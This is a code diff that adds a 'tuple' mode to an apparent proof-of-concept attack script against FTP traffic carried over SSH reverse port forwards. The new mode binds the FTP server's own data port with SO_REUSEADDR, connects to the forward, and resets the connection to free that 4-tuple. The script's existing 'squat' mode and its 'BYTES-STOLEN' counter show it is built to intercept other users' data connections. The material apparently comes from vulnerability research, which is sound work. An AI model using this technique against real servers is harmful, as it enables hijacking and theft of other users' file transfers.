@@ -14,6 +14,10 @@ connects to each as fast as it can until SECONDS have passed or OUT.stop exists:
 - squat: listens itself on L-1 and L of each control connection's address, before sshd's
   reverse forward is checked (sshd under `GatewayPorts no` binds loopback, not that address),
   and reads whatever connects there, appended to OUT.
+- tuple: as close, but from the FTP server's own data port (FTP_PORT-1, ProFTPD's L-1, bound with
+  SO_REUSEADDR as any user may where no socket listens there) on the forward's address: the very
+  4-tuple the server's data connection will have; it resets the connection after sending, which
+  frees that 4-tuple at once for the server's own.
 
 A MODE ending in "-far" runs on the FTP server's host instead, another host than the SSH
 server's: there the control connection's row has FTP_PORT as its local port and the SSH
@@ -23,6 +27,7 @@ Prints "ready" once running, and at the end one line: CONNECTIONS BYTES-STOLEN.
 """
 import os
 import socket
+import struct
 import sys
 import time
 
@@ -122,6 +127,9 @@ while mode != "squat" and time.monotonic() < deadline and not os.path.exists(out
         s = socket.socket(family, socket.SOCK_STREAM)
         s.settimeout(0.5)
         try:
+            if mode == "tuple":
+                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+                s.bind((addr, ftp_port - 1))
             s.connect((addr, port))
         except OSError:
             s.close()
@@ -143,6 +151,9 @@ while mode != "squat" and time.monotonic() < deadline and not os.path.exists(out
                     held.append(s)
                     if len(held) > 100:
                         held.pop(0).close()
+                elif mode == "tuple":
+                    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+                    s.close()
                 else:
                     s.close()
         except OSError:
